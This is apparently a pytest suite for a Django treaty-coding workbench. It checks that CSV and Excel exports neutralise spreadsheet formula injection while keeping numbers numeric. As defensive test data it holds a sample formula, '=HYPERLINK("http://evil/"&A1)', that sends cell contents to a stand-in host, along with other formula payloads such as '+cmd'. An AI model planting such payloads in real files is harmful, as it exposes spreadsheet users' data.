"""Exports are data (issue 19, item 1): every CSV the workbench writes goes through coding/pure/csv_safe.py,
which gives text that begins with =, +, -, @, tab or carriage return a leading quote (OWASP), so a
quote, rationale, note or name saved as a formula is text in a spreadsheet, while numbers, negative
ones included, stay numbers. Checked on the writer itself and on the real downloads and commands:
release dataset and evidence (page and export_dataset), an agreement's history, agreement_report
and the regression table."""

import csv
import io
from io import StringIO

import numpy as np
import pandas as pd
import pytest
from django.core.management import call_command
from django.urls import reverse

from analysis.pure import table_documents, tables
from analysis.selectors.releases import release_evidence_export, release_export, release_get
from coding.models import Adjudication, Answer, Article, Coding, DisagreementType
from coding.pure.csv_safe import TRIGGERS, frame_csv, rows_csv, safe_cell
from coding.services import codebook_import
from coding.services.adjudication import adjudication_approve, adjudication_resolve
from coding.services.assignments import assignment_create
from coding.services.codings import coding_save, coding_submit
from tests.coding.test_coding_import_report import write_long_csv
from tests.factories import AgreementFactory, UserFactory

EVIL = '=HYPERLINK("http://evil/"&A1)'


def parse(text):
    if isinstance(text, bytes):
        text = text.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def records(text):
    header, *rows = parse(text)
    return [dict(zip(header, row)) for row in rows]


def assert_no_formula(rows):
    """No cell a spreadsheet would run: nothing begins with a trigger unless it is a number."""
    for row in rows:
        for cell in row.values() if isinstance(row, dict) else row:
            if cell.startswith(TRIGGERS):
                float(cell)  # a negative number written as a number is the only allowed case


# --- the writer ------------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_text_beginning_with_a_trigger_gets_a_leading_quote(trigger):
    assert safe_cell(trigger + "1+1") == "'" + trigger + "1+1"
    assert parse(rows_csv([[trigger + "x", 1]])) == [["'" + trigger + "x", "1"]]


def test_other_text_is_left_as_it_is():
    texts = ["a=b", "x-1", " =1", "'=1", "", "中文 =", "(0.1)"]
    assert [safe_cell(t) for t in texts] == texts


def test_numbers_stay_numbers_negative_ones_included():
    values = [-0.25, -3, 0, 2010, np.int64(-7), np.float64(-0.5), np.float32(1.5), True]
    assert [safe_cell(v) for v in values] == values
    assert parse(rows_csv([values])) == [["-0.25", "-3", "0", "2010", "-7", "-0.5", "1.5", "True"]]


def test_text_that_looks_like_a_number_is_text_and_neutralised():
    assert safe_cell("-5") == "'-5" and safe_cell("+1") == "'+1"


def test_missing_values_are_empty_cells():
    assert [safe_cell(v) for v in [None, float("nan"), np.nan, pd.NA, pd.NaT]] == [""] * 5
    assert parse(rows_csv([["a", None, float("nan")]])) == [["a", "", ""]]


def test_a_frame_keeps_numeric_columns_and_neutralises_text_and_headers():
    frame = pd.DataFrame(
        {
            "depth": [-0.25, 3.0, np.nan],
            "year": [2010, -1, 2020],
            "quote": ["-5", EVIL, None],
            "=h": ["ok", "+cmd", "@SUM(1)"],
        }
    )
    data = frame_csv(frame)
    assert data.startswith("\ufeff".encode("utf-8"))  # Excel opens Chinese names correctly
    assert parse(data) == [
        ["depth", "year", "quote", "'=h"],
        ["-0.25", "2010", "'-5", "ok"],
        ["3.0", "-1", "'" + EVIL, "'+cmd"],
        ["", "2020", "", "'@SUM(1)"],
    ]
    assert frame["quote"].tolist()[:2] == ["-5", EVIL]  # the caller's frame is left as it was


def test_regression_table_csv_has_numeric_estimates_and_neutralised_labels():
    result = {
        "label": "=cmd",
        "coefficients": {
            "depth": {"estimate": -0.25, "se": 0.1, "p": 0.02},
            "-x": {"estimate": 1.5, "se": None, "p": 0.5},
        },
        "n_obs": 1234,
        "r2": 0.5,
        "estimator": "ols",
        "vcov": "hetero",
        "fixed_effects": {},
    }
    rows = parse(tables.to_csv(tables.build([result])))
    assert rows[:7] == [
        ["variable", "'=cmd"],
        ["depth", "-0.25"],
        ["", "(0.100000)"],
        ["", "**"],
        ["'-x", "1.5"],
        ["", ""],  # no standard error: blank, never "()"
        ["", ""],
    ]
    assert rows[7] == ["N", "1234"] and rows[8] == ["R² / pseudo R²", "0.5"]  # numbers a spreadsheet computes with
    assert rows[9] == ["Estimator", "OLS"]
    assert_no_formula(rows)
    # Only N and R² become numbers: a panel's hash that happens to be all digits keeps its zero.
    provenance = [{"release": 3, "panel": "012345678901abcdef"}]
    rows = parse(tables.to_csv(tables.build([result], provenance=provenance)))
    assert [tables.TEXT["panel"], "012345678901"] in rows, rows


# --- the real exports ------------------------------------------------------------------------


def save_and_submit(user, answers):
    coding = Coding.objects.get(coder=user)
    coding_save(coding=coding, user=user, revision=coding.revision, answers=answers)
    coding.refresh_from_db()
    coding_submit(coding=coding, user=user, revision=coding.revision)


@pytest.fixture
def evil(users, mini_version, treaty, client_for):
    """A treaty named like a formula, coded by coder_a (a quote, notes) and by a coder whose
    username is a formula (valid for Django: -2+3), adjudicated with a formula rationale,
    approved and released as release 1."""
    type(treaty).objects.filter(pk=treaty.pk).update(name="=1+2 (FTA)")
    Article.objects.filter(agreement=treaty, identifier="60").update(text=f"The Parties affirm {EVIL} here.")
    start = len("The Parties affirm ")
    signer = UserFactory(username="-2+3", role="coder")
    assignment_create(agreements=[treaty], version=mini_version, coders=[users["coder"], signer])
    save_and_submit(
        users["coder"],
        {
            "wto": {
                "value": 1,
                "note": EVIL,
                "evidence": [{"article": "60", "start": start, "end": start + len(EVIL), "quote": EVIL}],
            },
            "harmon": {"value": 2, "note": "@SUM(1)", "evidence": [{"article": "61"}]},
        },
    )
    save_and_submit(
        signer, {"wto": {"value": 1, "note": "\t=1", "evidence": [{"article": "60"}]}, "harmon": {"value": 0}}
    )
    adjudication = Adjudication.objects.get(agreement=treaty)
    adjudication_resolve(
        adjudication=adjudication,
        indicator=mini_version.indicators.get(code="harmon"),
        value=2,
        rationale="+cmd",
        disagreement_type=DisagreementType.MISREAD,
        user=users["supervisor"],
    )
    adjudication_approve(adjudication=adjudication, user=users["supervisor"])
    call_command("release_dataset", "--codebook", "mini", "--name", "evil", stdout=StringIO())
    return {"treaty": treaty, "client": client_for(users["supervisor"])}


def check_dataset(rows):
    assert_no_formula(rows)
    assert {r["name"] for r in rows} == {"'=1+2 (FTA)"}
    for row in rows:
        assert (row["wto"], row["harmon"], row["entry_into_force_year"]) == ("1", "2", "2010")
        assert float(row["depth"]) == 3 and row["agreement_id"].isdigit()


def check_evidence(rows):
    assert_no_formula(rows)
    quotes = {(r["indicator"], r["coder"], r["quote"]) for r in rows}
    assert ("wto", "coder_a", "'" + EVIL) in quotes and ("wto", "'-2+3", "") in quotes
    harmon = [r for r in rows if r["indicator"] == "harmon"]
    assert {r["rationale"] for r in harmon} == {"'+cmd"} and {r["value"] for r in harmon} == {"2"}
    assert {r["agreement"] for r in rows} == {"'=1+2 (FTA)"} and all(r["text_version"] == "1" for r in rows)


def test_release_csv_downloads_are_data(evil):
    client = evil["client"]
    for shape in ("agreement", "dyad"):
        response = client.get(reverse("analysis:release_download", args=[1, shape, "csv"]))
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        check_dataset(records(response.content))
    dyads = records(client.get(reverse("analysis:release_download", args=[1, "dyad", "csv"])).content)
    assert sorted((r["iso3_i"], r["year"]) for r in dyads) == [("AAA", "2010"), ("BBB", "2010")]
    response = client.get(reverse("analysis:release_evidence", args=[1, "csv"]))
    assert response.status_code == 200
    check_evidence(records(response.content))


def test_export_dataset_csv_and_its_evidence_file_are_data(evil, tmp_path):
    call_command("export_dataset", "1", "--format", "csv", "--out", str(tmp_path / "r.csv"), stdout=StringIO())
    check_dataset(records((tmp_path / "r.csv").read_bytes()))
    check_evidence(records((tmp_path / "r-evidence.csv").read_bytes()))


def test_stata_and_excel_keep_the_text_as_it_was_saved(evil):
    release = release_get("1")
    evidence = pd.read_stata(io.BytesIO(release_evidence_export(release, fmt="dta")[0]))
    assert EVIL in evidence["quote"].tolist() and set(evidence["rationale"]) == {"", "+cmd"}
    data = pd.read_stata(io.BytesIO(release_export(release, fmt="dta")[0]), convert_categoricals=False)
    assert data["name"].tolist() == ["=1+2 (FTA)"]
    labels = pd.io.stata.StataReader(io.BytesIO(release_export(release, fmt="dta")[0])).value_labels()
    assert labels["harmon"][2] == "selective"  # value labels untouched


def test_history_download_is_data(evil):
    url = reverse("coding:agreement_history", args=[evil["treaty"].pk])
    page = evil["client"].get(url)
    assert 'id="history-csv"' in page.content.decode()
    response = evil["client"].get(url, {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = records(response.content)
    assert_no_formula(rows)
    saved_notes = set(Answer.objects.exclude(note="").values_list("note", flat=True))
    assert EVIL in saved_notes and "@SUM(1)" in saved_notes
    notes = {r["after"] for r in rows if r["field"] == "note"}
    assert notes == {"'" + note if note.startswith(TRIGGERS) else note for note in saved_notes}
    assert "'+cmd" in {r["after"] for r in rows if r["field"] == "rationale"}
    assert "'-2+3" in {r["who"] for r in rows}
    assert {r["automatic"] for r in rows} <= {"True", "False"}


DASH_CODEBOOK = """codebook: dash
version: "1"
title: {en: Dash, zh: 破折号}
depth_score:
  indicators: ["-wto"]
indicators:
  - code: "-wto"
    question: {en: "Refers to the WTO?", zh: "是否提及 WTO"}
    values: {0: "no", 1: "yes"}
"""


@pytest.mark.django_db
def test_agreement_report_csv_is_data(tmp_path):
    # Given an indicator code that begins with "-" (a valid slug) and two sources that always disagree
    path = tmp_path / "dash.yaml"
    path.write_text(DASH_CODEBOOK, encoding="utf-8")
    codebook_import(path=path)
    agreements = [AgreementFactory() for _ in range(4)]
    rows = [
        [a.pk, coder, "-wto", (i + shift) % 2, "", "+cmd"]
        for i, a in enumerate(agreements)
        for coder, shift in (("ra", 0), ("rb", 1))
    ]
    write_long_csv(tmp_path / "codings.csv", rows)
    call_command(
        "import_codings", str(tmp_path / "codings.csv"), "--codebook", "dash", "--reference", stdout=StringIO()
    )

    out = StringIO()
    call_command("agreement_report", "--codebook", "dash", "--format", "csv", stdout=out)
    report = records(out.getvalue())
    assert_no_formula(report)
    (row,) = report
    # the code is text and neutralised; the negative kappa and alpha are numbers, not quoted
    assert row["indicator"] == "'-wto" and row["n_units"] == "4" and row["percent_agreement"] == "0.0"
    assert float(row["cohen_kappa"]) == -1.0 and float(row["krippendorff_alpha"]) < 0


def test_agreement_report_precoder_rows_are_data():
    from coding.management.commands._precoder_rows import write_precoder

    stats = {"n": 4, "kappa": -0.5, "alpha": None, "accuracy": 0.5}
    report = {
        "coder": "precoder #1",
        "reference_coder": 'DESTA "2.1"',
        "reference": {"-wto": stats},
        "approved": {},
        "cross_validation": {},
    }
    out = StringIO()
    write_precoder(out, report, "csv")
    # a name with a double quote no longer breaks the row; the code's "-" is neutralised; numbers stay
    assert parse(out.getvalue()) == [
        ['\'-wto (precoder #1 vs DESTA "2.1", held out)', "4", "", "", "-0.5", "", "", "", "", ""]
    ]


def formulas_in(workbook_bytes):
    """`sheet!cell` of every cell an Excel file stores as a formula."""
    import openpyxl

    workbook = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    return [
        f"{s.title}!{c.coordinate}" for s in workbook.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"
    ]


def test_excel_release_has_no_formula_on_any_sheet(evil):
    """The treaty's name sits on the data sheet, the quote on the evidence sheet: both are text in
    Excel too (openpyxl would store a string beginning with "=" as a formula)."""
    import openpyxl

    content = release_export(release_get("1"), fmt="xlsx")[0]
    assert formulas_in(content) == []
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    names = [row[0].value for row in workbook["data"].iter_rows(min_row=2) if row[0].value is not None]
    header = [c.value for c in workbook["data"][1]]
    assert [r[header.index("name")].value for r in workbook["data"].iter_rows(min_row=2)] == ["=1+2 (FTA)"], names
    quotes = [c.value for row in workbook["evidence"].iter_rows(min_row=2) for c in row]
    assert EVIL in quotes


def test_excel_regression_table_keeps_a_formula_like_label_as_text():
    result = {"estimator": "OLS", "n_obs": 10, "coefficients": {"=cmd()": {"estimate": 0.5, "se": 0.1, "p": 0.01}}}
    content = table_documents.to_xlsx(tables.build([result], ["=1+1"]))
    assert formulas_in(content) == []


def test_ids_stay_whole_numbers_when_one_is_missing():
    """A treaty outside ToTA has no tota_id: the others keep theirs as 69, not 69.0."""
    from analysis.pure.exports import release_frame

    base = {"name": "A", "parties": ["CHN", "CHL"], "entry_into_force_year": 2006, "depth": 3, "tier": "second"}
    rows = [
        {**base, "agreement_id": 1, "tota_id": 69, "wto_rta_id": 78},
        {**base, "agreement_id": 2, "tota_id": None, "wto_rta_id": None, "name": "B"},
    ]
    for shape in ("agreement", "dyad"):
        written = records(frame_csv(release_frame(rows, [], shape=shape)))
        assert {r["tota_id"] for r in written} == {"69", ""} and {r["wto_rta_id"] for r in written} == {"78", ""}
